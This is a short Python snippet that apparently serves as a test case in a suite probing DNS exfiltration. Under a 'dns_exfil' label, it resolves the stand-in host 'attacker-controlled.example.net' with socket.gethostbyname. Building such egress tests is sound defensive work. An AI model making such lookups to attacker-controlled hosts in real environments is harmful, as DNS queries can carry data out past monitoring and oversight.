# attack: dns_gethostbyname
# category: dns_exfil
# kind: dns
# describe: the older resolver entry point
import socket
try:
    print(socket.gethostbyname("attacker-controlled.example.net"))
except OSError as e:
    print(e)
